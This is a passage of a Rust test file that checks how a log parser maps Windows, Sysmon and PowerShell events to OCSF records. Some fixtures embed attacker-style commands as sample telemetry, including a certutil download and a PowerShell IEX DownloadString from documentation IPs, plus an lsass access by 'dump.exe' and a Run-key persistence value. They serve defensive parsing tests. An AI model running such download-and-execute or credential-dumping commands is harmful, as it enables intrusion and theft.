                <Data Name='ReasonCode'>16</Data><Data Name='Reason'>Authentication failed due to a user credentials mismatch.</Data>";
    let ocsf = only_record(&security_event(6273, data));
    assert_eq!(ocsf["class_uid"], 3002);
    assert_eq!(ocsf["status_id"], 2);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["user"]["domain"], "CORP");
    assert_eq!(ocsf["src_endpoint"]["ip"], "203.0.113.45");
    assert!(ocsf["src_endpoint"].get("hostname").is_none(), "VPN-GW1 is the RADIUS client, not the station");
    assert_eq!(ocsf["dst_endpoint"]["hostname"], "nps1.corp.test");
    assert_eq!(ocsf["status_code"], "16");

    let wireless = data.replace("203.0.113.45", "A4-5E-60-D1-22-0F");
    let ocsf = only_record(&security_event(6272, &wireless));
    assert_eq!(ocsf["status_id"], 1);
    assert_eq!(ocsf["src_endpoint"]["mac"], "a4:5e:60:d1:22:0f");
}

#[test]
fn federation_failure_reads_audit_xml() {
    let audit = "&lt;AuditBase&gt;&lt;AuditResult&gt;Failure&lt;/AuditResult&gt;&lt;FailureType&gt;CredentialValidationError&lt;/FailureType&gt;\
                 &lt;UserId&gt;j.meyer@corp.test&lt;/UserId&gt;&lt;IpAddress&gt;203.0.113.45,198.51.100.3&lt;/IpAddress&gt;&lt;/AuditBase&gt;";
    let data = format!("<Data>00000000-0000-0000-0000-000000000000</Data><Data>{audit}</Data>");
    let text = xml_event("AD FS Auditing", "Security", 1203, Some("S-1-5-21-3623811015-3361044348-30300820-2001"), &data);
    let ocsf = only_record(&text);
    assert_eq!(ocsf["class_uid"], 3002);
    assert_eq!(ocsf["status_id"], 2);
    assert_eq!(ocsf["user"]["name"], "j.meyer@corp.test");
    assert_eq!(ocsf["src_endpoint"]["ip"], "203.0.113.45");
    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-2001");
}

#[test]
fn nxlog_resolved_account_is_actor() {
    // NXLog adds AccountName, Domain and AccountType when it resolves the Security UserID.
    let defender = r#"{"EventTime":"2026-03-02 10:00:00","Hostname":"WS-0412.corp.test","EventID":5007,"SourceName":"Microsoft-Windows-Windows Defender","Channel":"Microsoft-Windows-Windows Defender/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"Well Known Group","Old Value":"","New Value":"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Temp = 0x0"}"#;
    let ocsf = only_record(defender);
    assert_eq!(ocsf["actor"]["user"]["name"], "SYSTEM");
    assert_eq!(ocsf["actor"]["user"]["domain"], "NT AUTHORITY");
    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-18");

    // Without a resolved user, AccountName is the EventData item of 4778.
    let reconnect = r#"{"EventTime":"2026-03-02 10:05:00","Hostname":"SRV-APP02.corp.test","EventID":4778,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","AccountName":"j.meyer","AccountDomain":"CORP","LogonID":"0x5c3a21","SessionName":"RDP-Tcp#4","ClientName":"WS-0412","ClientAddress":"192.0.2.15"}"#;
    let ocsf = only_record(reconnect);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["src_endpoint"]["ip"], "192.0.2.15");
    assert_eq!(ocsf["src_endpoint"]["hostname"], "WS-0412");
}

#[test]
fn winlogbeat_pipeline_fields_fill_gaps() {
    // The security module's pipeline moves IpAddress and IpPort to source.* and names the user.
    let kerberos = r#"{"@timestamp":"2026-03-02T10:10:00.000Z","event":{"code":"4771","provider":"Microsoft-Windows-Security-Auditing","outcome":"failure"},"source":{"ip":"192.0.2.15","port":50922},"user":{"name":"j.meyer","id":"S-1-5-21-3623811015-3361044348-30300820-1013"},"winlog":{"channel":"Security","computer_name":"DC1.corp.test","event_id":"4771","provider_name":"Microsoft-Windows-Security-Auditing","record_id":90412,"event_data":{"TargetUserName":"j.meyer","TargetSid":"S-1-5-21-3623811015-3361044348-30300820-1013","ServiceName":"krbtgt/CORP.TEST","TicketOptions":"0x40810010","Status":"0x18","PreAuthType":"2"}}}"#;
    let ocsf = only_record(kerberos);
    assert_eq!(ocsf["src_endpoint"]["ip"], "192.0.2.15");
    assert_eq!(ocsf["src_endpoint"]["port"], 50922);

    // The powershell module drops the EventData of 800 and writes the user it found there.
    let pipeline = r#"{"@timestamp":"2026-03-02T10:11:00.000Z","event":{"code":"800","provider":"PowerShell"},"user":{"domain":"CORP","name":"a.okafor"},"winlog":{"channel":"Windows PowerShell","computer_name":"WS-0412.corp.test","event_id":"800","provider_name":"PowerShell","record_id":"1207"}}"#;
    let ocsf = only_record(pipeline);
    assert_eq!(ocsf["actor"]["user"]["name"], "a.okafor");
    assert_eq!(ocsf["actor"]["user"]["domain"], "CORP");

    // winlog.user is the account of the Security element, as Windows resolved it.
    let defender = r#"{"@timestamp":"2026-03-02T10:12:00.000Z","event":{"code":"1116"},"winlog":{"channel":"Microsoft-Windows-Windows Defender/Operational","computer_name":"WS-0412.corp.test","event_id":"1116","provider_name":"Microsoft-Windows-Windows Defender","user":{"identifier":"S-1-5-18","name":"SYSTEM","domain":"NT AUTHORITY","type":"Well Known Group"},"event_data":{"Threat Name":"Virus:DOS/EICAR_Test_File"}}}"#;
    let ocsf = only_record(defender);
    assert_eq!(ocsf["actor"]["user"]["name"], "SYSTEM");
    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-18");
}

/// Two events in the classic text rendering, as the Splunk forwarder writes them, one after
/// the other: the message of each spans many lines, blank ones included.
const CLASSIC_EVENTS: &str = "03/02/2026 09:15:44 AM
LogName=Security
SourceName=Microsoft Windows security auditing.
EventCode=4625
EventType=0
Type=Information
ComputerName=WS-0412.corp.test
TaskCategory=Logon
OpCode=Info
RecordNumber=55120
Keywords=Audit Failure
Message=An account failed to log on.

Subject:
\tSecurity ID:\t\tNULL SID
\tAccount Name:\t\t-
\tAccount Domain:\t\t-
\tLogon ID:\t\t0x0

Logon Type:\t\t\t3

Account For Which Logon Failed:
\tSecurity ID:\t\tNULL SID
\tAccount Name:\t\tj.meyer
\tAccount Domain:\t\tCORP

Failure Information:
\tFailure Reason:\t\tUnknown user name or bad password.
\tStatus:\t\t\t0xC000006D
\tSub Status:\t\t0xC000006A

Process Information:
\tCaller Process ID:\t0x0
\tCaller Process Name:\t-

Network Information:
\tWorkstation Name:\tKIOSK-7
\tSource Network Address:\t203.0.113.77
\tSource Port:\t\t51544

Detailed Authentication Information:
\tLogon Process:\t\tNtLmSsp 
\tAuthentication Package:\tNTLM
03/02/2026 09:16:02 AM
LogName=Security
SourceName=Microsoft Windows security auditing.
EventCode=4688
ComputerName=WS-0412.corp.test
RecordNumber=55131
Keywords=Audit Success
Message=A new process has been created.

Creator Subject:
\tSecurity ID:\t\tS-1-5-21-3623811015-3361044348-30300820-1013
\tAccount Name:\t\tj.meyer
\tAccount Domain:\t\tCORP
\tLogon ID:\t\t0x5C3A21

Process Information:
\tNew Process ID:\t\t0x2a08
\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe
\tCreator Process ID:\t0x1b30
\tCreator Process Name:\tC:\\Windows\\explorer.exe
\tProcess Command Line:\tcmd.exe /c whoami
";

#[test]
fn classic_text_events_split_and_map() {
    let records = testing::assert_parses(META.id, CLASSIC_EVENTS);
    assert_eq!(records.len(), 2);
    assert_eq!(records[0].line, 1);
    assert_eq!(records[1].line, 44);

    let failed = &records[0].ocsf;
    assert_eq!(failed["class_uid"], 3002);
    assert_eq!(failed["status_id"], 2);
    assert_eq!(failed["status_code"], "0xC000006A");
    assert_eq!(failed["user"]["name"], "j.meyer");
    assert_eq!(failed["user"]["domain"], "CORP");
    assert_eq!(failed["src_endpoint"]["ip"], "203.0.113.77");
    assert_eq!(failed["src_endpoint"]["port"], 51544);
    assert_eq!(failed["src_endpoint"]["hostname"], "KIOSK-7");
    assert_eq!(failed["logon_type_id"], 3);
    assert_eq!(failed["device"]["hostname"], "WS-0412.corp.test");
    assert_eq!(failed["metadata"]["uid"], "55120");
    // The forwarder writes the host's local time without a zone, read as UTC by default.
    let expected = crate::timestamp::Timestamp::from_civil(2026, 3, 2, 9, 15, 44, 0);
    assert_eq!(failed["time"], expected.millis());

    let process = &records[1].ocsf;
    assert_eq!(process["class_uid"], 1007);
    assert_eq!(process["process"]["pid"], 0x2a08);
    assert_eq!(process["process"]["cmd_line"], "cmd.exe /c whoami");
    assert_eq!(process["process"]["parent_process"]["name"], "explorer.exe");
    assert_eq!(process["actor"]["user"]["name"], "j.meyer");
    assert_eq!(process["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013");
}

#[test]
fn classic_text_inside_json_and_after_xml() {
    let first_event: String = CLASSIC_EVENTS.lines().take(43).collect::<Vec<_>>().join("\n");
    let export = serde_json::json!({"_raw": first_event, "sourcetype": "WinEventLog:Security"}).to_string();
    let ocsf = only_record(&export);
    assert_eq!(ocsf["user"]["name"], "j.meyer");

    // Event XML on the line after a classic event ends it.
    let mixed = format!("{first_event}\n{}\n", TABLE[1].1);
    let records = testing::assert_parses(META.id, &mixed);
    let classes: Vec<_> = records.iter().map(|r| r.ocsf["class_uid"].clone()).collect();
    assert_eq!(classes, [3002, 1007]);
}

#[test]
fn classic_text_without_event_code_is_rejected() {
    let err = testing::assert_rejected(META.id, "03/02/2026 09:15:44 AM\nLogName=Security\nMessage=An account failed to log on.\n");
    assert!(err.reason.contains("EventCode"), "{err}");
}

/// Returns a Remote Desktop Services event whose payload is a `UserData/EventXML` element.
fn terminal_services_event(provider: &str, id: u32, payload: &str) -> String {
    format!(
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}'/>\
         <EventID>{id}</EventID><Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode>\
         <TimeCreated SystemTime='2026-03-02T10:20:00.000000000Z'/><EventRecordID>301</EventRecordID>\
         <Execution ProcessID='1012' ThreadID='2044'/><Channel>Operational</Channel><Computer>SRV-APP02.corp.test</Computer>\
         <Security UserID='S-1-5-18'/></System><UserData><EventXML xmlns='Event_NS'>{payload}</EventXML></UserData></Event>"
    )
}

#[test]
fn remote_desktop_sessions_map_to_authentication() {
    let provider = "Microsoft-Windows-TerminalServices-LocalSessionManager";
    let logon = terminal_services_event(provider, 21, "<User>CORP\\j.meyer</User><SessionID>3</SessionID><Address>192.0.2.15</Address>");
    let ocsf = only_record(&logon);
    assert_eq!(ocsf["class_uid"], 3002);
    assert_eq!(ocsf["activity_id"], 1);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["user"]["domain"], "CORP");
    assert_eq!(ocsf["src_endpoint"]["ip"], "192.0.2.15");
    assert_eq!(ocsf["logon_type_id"], 10);
    assert_eq!(ocsf["session"]["uid"], "3");

    let console = terminal_services_event(provider, 24, "<User>CORP\\j.meyer</User><SessionID>1</SessionID><Address>LOCAL</Address>");
    let ocsf = only_record(&console);
    assert_eq!(ocsf["activity_id"], 2);
    assert!(ocsf.get("src_endpoint").is_none());

    let connection = terminal_services_event(
        "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
        1149,
        "<Param1>j.meyer</Param1><Param2>CORP</Param2><Param3>203.0.113.45</Param3>",
    );
    let ocsf = only_record(&connection);
    assert_eq!(ocsf["user"]["name"], "j.meyer");
    assert_eq!(ocsf["src_endpoint"]["ip"], "203.0.113.45");

    // Event 21 of another provider keeps the Base Event mapping.
    let other = terminal_services_event("Microsoft-Windows-Kernel-General", 21, "<User>CORP\\j.meyer</User>");
    assert_eq!(only_record(&other)["class_uid"], 0);
}

/// Returns a classic text event `id` whose message names the account under `Subject:`.
fn classic_subject_event(id: u32, message: &str, extra: &str) -> String {
    format!(
        "03/02/2026 10:20:00 AM\nLogName=Security\nEventCode={id}\nComputerName=SRV-APP02.corp.test\nMessage={message}\n\n\
         Subject:\n\tSecurity ID:\t\tS-1-5-21-3623811015-3361044348-30300820-1013\n\tAccount Name:\t\tj.meyer\n\
         \tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x5C3A21\n{extra}"
    )
}

#[test]
fn classic_logoff_subject_is_user() {
    let cases = [
        (4634, "An account was logged off.", "\nLogon Type:\t\t\t10\n"),
        (4647, "User initiated logoff:", ""),
        (4778, "A session was reconnected to a Window Station.", "\nSession:\n\tSession Name:\t\tRDP-Tcp#4\n"),
        (4779, "A session was disconnected from a Window Station.", "\nSession:\n\tSession Name:\t\tRDP-Tcp#4\n"),
    ];
    for (id, message, extra) in cases {
        let mut records = testing::assert_parses(META.id, &classic_subject_event(id, message, extra));
        assert_eq!(records.len(), 1, "{id}");
        let record = records.remove(0);
        assert_eq!(record.ocsf["class_uid"], 3002, "{id}");
        assert_eq!(record.ocsf["user"]["name"], "j.meyer", "{id}");
        assert_eq!(record.ocsf["user"]["domain"], "CORP", "{id}");
        assert_eq!(record.ocsf["session"]["uid"], "0x5C3A21", "{id}");
        assert!(record.ocsf.get("actor").is_none(), "{id}: {:?}", record.ocsf.get("actor"));
        assert!(!record.parsed.fields.contains_key("EventData.SubjectUserName"), "{id}");
    }
}

#[test]
fn utc_offset_shifts_classic_text_only() {
    let wall_clock = crate::timestamp::Timestamp::from_civil(2026, 3, 2, 9, 15, 44, 0).millis();
    assert_eq!(testing::time_at_offset(META.id, CLASSIC_EVENTS, 0), wall_clock);
    assert_eq!(testing::time_at_offset(META.id, CLASSIC_EVENTS, 120), wall_clock - 2 * 3600 * 1000);

    let xml = TABLE[0].1;
    let instant = crate::timestamp::Timestamp::from_civil(2026, 3, 2, 7, 15, 44, 901_224_600).millis();
    assert_eq!(testing::time_at_offset(META.id, xml, 120), instant);
}

fn sysmon_event(id: u32, data: &str) -> String {
    xml_event("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", id, Some("S-1-5-18"), data)
}

#[test]
fn sysmon_process_create_maps_to_process_launch() {
    let data = "<Data Name='UtcTime'>2026-03-02 10:00:00.000</Data>\
                <Data Name='ProcessGuid'>{5b0c2e7a-1f00-66aa-7c01-000000003100}</Data><Data Name='ProcessId'>9044</Data>\
                <Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data>\
                <Data Name='CommandLine'>certutil.exe -urlcache -f http://203.0.113.9/a.bin a.bin</Data>\
                <Data Name='CurrentDirectory'>C:\\Users\\t.ngata\\</Data><Data Name='User'>LAB\\t.ngata</Data>\
                <Data Name='IntegrityLevel'>High</Data>\
                <Data Name='Hashes'>MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0,SHA256=AA11BB22CC33DD44EE55FF6600112233445566778899AABBCCDDEEFF00112233</Data>\
                <Data Name='ParentProcessGuid'>{5b0c2e7a-1e00-66aa-7b01-000000003100}</Data><Data Name='ParentProcessId'>0x1a2c</Data>\
                <Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>cmd.exe /c run.bat</Data>\
                <Data Name='ParentUser'>LAB\\svc-deploy</Data>";
    let ocsf = only_record(&sysmon_event(1, data));
    assert_eq!(ocsf["class_uid"], 1007);
    assert_eq!(ocsf["activity_id"], 1);
    assert_eq!(ocsf["process"]["pid"], 9044);
    assert_eq!(ocsf["process"]["name"], "certutil.exe");
    assert_eq!(ocsf["process"]["cmd_line"], "certutil.exe -urlcache -f http://203.0.113.9/a.bin a.bin");
    assert_eq!(ocsf["process"]["user"]["name"], "t.ngata");
    assert_eq!(ocsf["process"]["integrity_id"], 4);
    assert_eq!(ocsf["process"]["file"]["hashes"][1]["algorithm_id"], 3);
    assert_eq!(ocsf["process"]["parent_process"]["pid"], 0x1a2c);
    assert_eq!(ocsf["process"]["parent_process"]["name"], "cmd.exe");
    assert_eq!(ocsf["actor"]["process"]["name"], "cmd.exe");
    assert_eq!(ocsf["actor"]["user"]["name"], "svc-deploy");
    assert_eq!(ocsf["actor"]["user"]["domain"], "LAB");
}

#[test]
fn sysmon_process_terminate_maps_to_terminate() {
    let data = "<Data Name='ProcessId'>9044</Data><Data Name='Image'>C:\\Tools\\job.exe</Data><Data Name='User'>LAB\\t.ngata</Data>";
    let ocsf = only_record(&sysmon_event(5, data));
    assert_eq!(ocsf["class_uid"], 1007);
    assert_eq!(ocsf["activity_id"], 2);
    assert_eq!(ocsf["process"]["path"], "C:\\Tools\\job.exe");
    assert_eq!(ocsf["actor"]["user"]["name"], "t.ngata");
}

#[test]
fn sysmon_file_events_map_to_file_activity() {
    let data = "<Data Name='ProcessId'>512</Data><Data Name='Image'>C:\\Windows\\explorer.exe</Data>\
                <Data Name='TargetFilename'>C:\\Users\\t.ngata\\Downloads\\invoice.js</Data><Data Name='User'>LAB\\t.ngata</Data>";
    let created = only_record(&sysmon_event(11, data));
    assert_eq!(created["class_uid"], 1001);
    assert_eq!(created["activity_id"], 1);
    assert_eq!(created["file"]["name"], "invoice.js");
    assert_eq!(created["actor"]["process"]["pid"], 512);
    for id in [23, 26] {
        let deleted = only_record(&sysmon_event(id, data));
        assert_eq!(deleted["class_uid"], 1001, "{id}");
        assert_eq!(deleted["activity_id"], 4, "{id}");
        assert_eq!(deleted["file"]["is_deleted"], true, "{id}");
    }
}

#[test]
fn sysmon_dns_query_maps_to_dns_activity() {
    let data = "<Data Name='ProcessId'>9044</Data><Data Name='QueryName'>files.example.net</Data>\
                <Data Name='QueryStatus'>0</Data><Data Name='QueryResults'>type:  5 edge.example.org;::ffff:198.51.100.61;2001:db8::7;</Data>\
                <Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='User'>LAB\\t.ngata</Data>";
    let ocsf = only_record(&sysmon_event(22, data));
    assert_eq!(ocsf["class_uid"], 4003);
    assert_eq!(ocsf["query"]["hostname"], "files.example.net");
    assert_eq!(ocsf["rcode_id"], 0);
    assert_eq!(ocsf["answers"][0]["type"], "CNAME");
    assert_eq!(ocsf["answers"][0]["rdata"], "edge.example.org");
    assert_eq!(ocsf["answers"][1]["rdata"], "198.51.100.61");
    assert_eq!(ocsf["answers"][2]["type"], "AAAA");
    assert_eq!(ocsf["actor"]["process"]["name"], "certutil.exe");

    let missing = data.replace("<Data Name='QueryStatus'>0</Data>", "<Data Name='QueryStatus'>9003</Data>");
    let ocsf = only_record(&sysmon_event(22, &missing));
    assert_eq!(ocsf["rcode_id"], 3);
    assert_eq!(ocsf["status_id"], 2);
}

#[test]
fn file_object_access_maps_to_file_activity() {
    let access = |mask: &str| {
        format!(
            "{SUBJECT}<Data Name='ObjectServer'>Security</Data><Data Name='ObjectType'>File</Data>\
             <Data Name='ObjectName'>D:\\Projects\\bid\\costs.xlsx</Data><Data Name='HandleId'>0x2c8</Data>\
             <Data Name='AccessList'>%%1537</Data><Data Name='AccessMask'>{mask}</Data>\
             <Data Name='ProcessId'>0x1b04</Data><Data Name='ProcessName'>C:\\Windows\\System32\\cmd.exe</Data>"
        )
    };
    let cases = [("0x10000", 4), ("0x1", 2), ("0x6", 3), ("0x40000", 7), ("0x80", 8)];
    for (mask, activity_id) in cases {
        let ocsf = only_record(&security_event(4663, &access(mask)));
        assert_eq!(ocsf["class_uid"], 1001, "{mask}");
        assert_eq!(ocsf["activity_id"], activity_id, "{mask}");
        assert_eq!(ocsf["file"]["name"], "costs.xlsx", "{mask}");
        assert_eq!(ocsf["file"]["path"], "D:\\Projects\\bid\\costs.xlsx", "{mask}");
        assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer", "{mask}");
        assert_eq!(ocsf["actor"]["process"]["pid"], 0x1b04, "{mask}");
        assert_eq!(ocsf["status_id"], 1, "{mask}");
    }

    let failed = security_event(4656, &access("0x1")).replace("0x8020000000000000", "0x8010000000000000");
    let ocsf = only_record(&failed);
    assert_eq!(ocsf["class_uid"], 1001);
    assert_eq!(ocsf["status_id"], 2, "Audit Failure keyword");

    let deleted = security_event(4660, &format!("{SUBJECT}<Data Name='ObjectServer'>Security</Data><Data Name='ObjectType'>File</Data><Data Name='HandleId'>0x2c8</Data>"));
    let ocsf = only_record(&deleted);
    assert_eq!(ocsf["activity_id"], 4);
    assert_eq!(ocsf["file"]["is_deleted"], true);

    // A registry key access stays a Base Event.
    let registry = access("0x1").replace("<Data Name='ObjectType'>File</Data>", "<Data Name='ObjectType'>Key</Data>");
    assert_eq!(only_record(&security_event(4663, &registry))["class_uid"], 0);
}

#[test]
fn script_block_maps_to_script_activity() {
    let data = "<Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data>\
                <Data Name='ScriptBlockText'>IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.50/a.ps1')</Data>\
                <Data Name='ScriptBlockId'>3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a</Data><Data Name='Path'>C:\\Users\\t.ngata\\run.ps1</Data>";
    let text = xml_event(
        "Microsoft-Windows-PowerShell",
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        Some("S-1-5-21-3623811015-3361044348-30300820-1013"),
        data,
    );
    let ocsf = only_record(&text);
    assert_eq!(ocsf["class_uid"], 1009);
    assert_eq!(ocsf["activity_id"], 1);
    assert_eq!(ocsf["script"]["type_id"], 2);
    assert_eq!(ocsf["script"]["uid"], "3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a");
    assert!(ocsf["script"]["script_content"]["value"].as_str().unwrap().starts_with("IEX "));
    assert_eq!(ocsf["script"]["file"]["name"], "run.ps1");
    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013");
    assert_eq!(ocsf["script"]["script_content"]["is_truncated"], false);

    let first_of_three = text.replace("<Data Name='MessageTotal'>1</Data>", "<Data Name='MessageTotal'>3</Data>");
    assert_eq!(only_record(&first_of_three)["script"]["script_content"]["is_truncated"], true);

    // Other PowerShell events keep the Base Event mapping.
    let pipeline = xml_event("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4103, None, "<Data Name='Payload'>x</Data>");
    assert_eq!(only_record(&pipeline)["class_uid"], 0);
}

#[test]
fn service_installs_map_to_windows_service_activity() {
    let system = "<Data Name='ServiceName'>RemoteUpdater</Data><Data Name='ImagePath'>%COMSPEC% /c echo x &gt; \\\\.\\pipe\\upd</Data>\
                  <Data Name='ServiceType'>user mode service</Data><Data Name='StartType'>demand start</Data>\
                  <Data Name='AccountName'>LocalSystem</Data>";
    let text = xml_event("Service Control Manager", "System", 7045, Some("S-1-5-21-3623811015-3361044348-30300820-1013"), system);
    let ocsf = only_record(&text);
    assert_eq!(ocsf["class_uid"], 201004);
    assert_eq!(ocsf["category_uid"], 1);
    assert_eq!(ocsf["type_uid"], 20100401);
    assert_eq!(ocsf["win_service"]["name"], "RemoteUpdater");
    assert_eq!(ocsf["win_service"]["service_start_name"], "LocalSystem");
    assert_eq!(ocsf["severity_id"], 3, "a service running the command shell");
    assert_eq!(ocsf["actor"]["user"]["uid"], "S-1-5-21-3623811015-3361044348-30300820-1013");
    assert!(ocsf["actor"]["user"].get("name").is_none(), "LocalSystem runs the service, it did not install it");

    let security = format!(
        "{SUBJECT}<Data Name='ServiceName'>BackupAgent</Data><Data Name='ServiceFileName'>C:\\Program Files\\Backup\\agent.exe</Data>\
         <Data Name='ServiceType'>0x10</Data><Data Name='ServiceStartType'>2</Data><Data Name='ServiceAccount'>LocalSystem</Data>"
    );
    let ocsf = only_record(&security_event(4697, &security));
    assert_eq!(ocsf["class_uid"], 201004);
    assert_eq!(ocsf["win_service"]["cmd_line"], "C:\\Program Files\\Backup\\agent.exe");
    assert_eq!(ocsf["actor"]["user"]["name"], "j.meyer");
    assert_eq!(ocsf["severity_id"], 1);
}

#[test]
fn sysmon_image_load_maps_to_module_activity() {
    let data = "<Data Name='ProcessGuid'>{5b0c2e7a-1f00-66aa-7c01-000000003100}</Data><Data Name='ProcessId'>9044</Data>\
                <Data Name='Image'>C:\\Windows\\System32\\rundll32.exe</Data><Data Name='ImageLoaded'>C:\\Users\\Public\\helper.dll</Data>\
                <Data Name='Hashes'>SHA1=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D</Data><Data Name='Signed'>false</Data>\
                <Data Name='Product'>Helper Suite</Data><Data Name='Company'>Helper Software Ltd</Data>\
                <Data Name='User'>LAB\\t.ngata</Data>";
    let ocsf = only_record(&sysmon_event(7, data));
    assert_eq!(ocsf["class_uid"], 1005);
    assert_eq!(ocsf["activity_id"], 1);
    assert_eq!(ocsf["module"]["file"]["name"], "helper.dll");
    assert_eq!(ocsf["module"]["file"]["hashes"][0]["algorithm_id"], 2);
    assert_eq!(ocsf["module"]["file"]["company_name"], "Helper Software Ltd");
    assert_eq!(ocsf["actor"]["process"]["name"], "rundll32.exe");
}

#[test]
fn sysmon_registry_events_map_to_registry_classes() {
    let event = |id: u32, event_type: &str, extra: &str| {
        let data = format!(
            "<Data Name='EventType'>{event_type}</Data><Data Name='ProcessId'>4420</Data>\
             <Data Name='Image'>C:\\Windows\\regedit.exe</Data>\
             <Data Name='TargetObject'>HKU\\S-1-5-21-1-2-3-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater</Data>{extra}"
        );
        only_record(&sysmon_event(id, &data))
    };
    let set = event(13, "SetValue", "<Data Name='Details'>C:\\Users\\Public\\u.exe</Data>");
    assert_eq!(set["class_uid"], 201002);
    assert_eq!(set["category_uid"], 1);
    assert_eq!(set["activity_id"], 2);
    assert_eq!(set["reg_value"]["name"], "Updater");
    assert_eq!(set["reg_value"]["data"], "C:\\Users\\Public\\u.exe");
    assert_eq!(set["actor"]["process"]["pid"], 4420);

    let deleted_value = event(12, "DeleteValue", "");
    assert_eq!(deleted_value["class_uid"], 201002);
    assert_eq!(deleted_value["activity_id"], 4);

    let created_key = event(12, "CreateKey", "");
    assert_eq!(created_key["class_uid"], 201001);
    assert_eq!(created_key["activity_id"], 1);
    assert!(created_key["reg_key"]["path"].as_str().unwrap().ends_with("\\Run\\Updater"));

    let renamed = event(14, "RenameKey", "<Data Name='NewName'>HKLM\\Software\\Other</Data>");
    assert_eq!(renamed["activity_id"], 5);
}

#[test]
fn fluent_bit_record_reads_time_and_computer() {
    let message = "An account failed to log on.\\r\\n\\r\\nSubject:\\r\\n\\tSecurity ID:\\t\\tS-1-0-0\\r\\n\\tAccount Name:\\t\\t-\\r\\n\\r\\n\
                   Logon Type:\\t\\t\\t3\\r\\n\\r\\nAccount For Which Logon Failed:\\r\\n\\tSecurity ID:\\t\\tS-1-0-0\\r\\n\
                   \\tAccount Name:\\t\\tsvc-sql\\r\\n\\tAccount Domain:\\t\\tLAB\\r\\n\\r\\nNetwork Information:\\r\\n\
                   \\tWorkstation Name:\\tWS-88\\r\\n\\tSource Network Address:\\t198.51.100.140\\r\\n\\tSource Port:\\t\\t0";
    let record = format!(
        r#"{{"RecordNumber":5521,"TimeGenerated":"2026-02-03 11:22:33 -0130","TimeWritten":"2026-02-03 11:22:33 -0130","EventID":4625,"Qualifiers":0,"EventType":"AUDIT_FAILURE","EventCategory":12544,"Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing","ComputerName":"SRV-07.lab.example","Data":"","Sid":"","Message":"{message}","StringInserts":["S-1-0-0","-","svc-sql"]}}"#
    );
    let ocsf = only_record(&record);
    let expected = crate::timestamp::parse_rfc3339("2026-02-03T12:52:33Z").unwrap();
    assert_eq!(ocsf["time"], expected.millis());
    assert_eq!(ocsf["device"]["hostname"], "SRV-07.lab.example");
    assert_eq!(ocsf["class_uid"], 3002);
    assert_eq!(ocsf["user"]["name"], "svc-sql");
    assert_eq!(ocsf["src_endpoint"]["ip"], "198.51.100.140");
    assert!(ocsf.get("unmapped").is_none_or(|unmapped| unmapped.get("StringInserts").is_none()));
}

#[test]
fn sysmon_process_access_maps_to_process_open() {
    let data = "<Data Name='UtcTime'>2026-03-02 10:00:00.000</Data>\
                <Data Name='SourceProcessGUID'>{5b0c2e7a-2a00-66aa-8c01-000000003100}</Data><Data Name='SourceProcessId'>6120</Data>\
                <Data Name='SourceThreadId'>6124</Data><Data Name='SourceImage'>C:\\Users\\t.ngata\\AppData\\Local\\Temp\\dump.exe</Data>\
                <Data Name='TargetProcessGUID'>{5b0c2e7a-0b00-66aa-0c00-000000003100}</Data><Data Name='TargetProcessId'>712</Data>\
                <Data Name='TargetImage'>C:\\Windows\\system32\\lsass.exe</Data><Data Name='GrantedAccess'>0x1410</Data>\
                <Data Name='CallTrace'>C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF8A1B2C3D4)</Data>\
                <Data Name='SourceUser'>LAB\\t.ngata</Data><Data Name='TargetUser'>NT AUTHORITY\\SYSTEM</Data>";
    let ocsf = only_record(&sysmon_event(10, data));
    assert_eq!(ocsf["class_uid"], 1007);
    assert_eq!(ocsf["activity_id"], 3, "Open");
    assert_eq!(ocsf["process"]["pid"], 712);
    assert_eq!(ocsf["process"]["name"], "lsass.exe");
    assert_eq!(ocsf["process"]["uid"], "{5b0c2e7a-0b00-66aa-0c00-000000003100}");
    assert_eq!(ocsf["process"]["user"]["name"], "SYSTEM");
    assert_eq!(ocsf["actor"]["process"]["pid"], 6120);
    assert_eq!(ocsf["actor"]["process"]["name"], "dump.exe");
    assert_eq!(ocsf["actor"]["user"]["name"], "t.ngata");
    assert_eq!(ocsf["actual_permissions"], 0x1410);
}

#[test]
fn sysmon_remote_thread_maps_to_process_inject() {
    let data = "<Data Name='SourceProcessGuid'>{5b0c2e7a-2a00-66aa-8c01-000000003100}</Data><Data Name='SourceProcessId'>6120</Data>\
                <Data Name='SourceImage'>C:\\Users\\t.ngata\\loader.exe</Data>\
                <Data Name='TargetProcessGuid'>{5b0c2e7a-1000-66aa-1000-000000003100}</Data><Data Name='TargetProcessId'>4032</Data>\
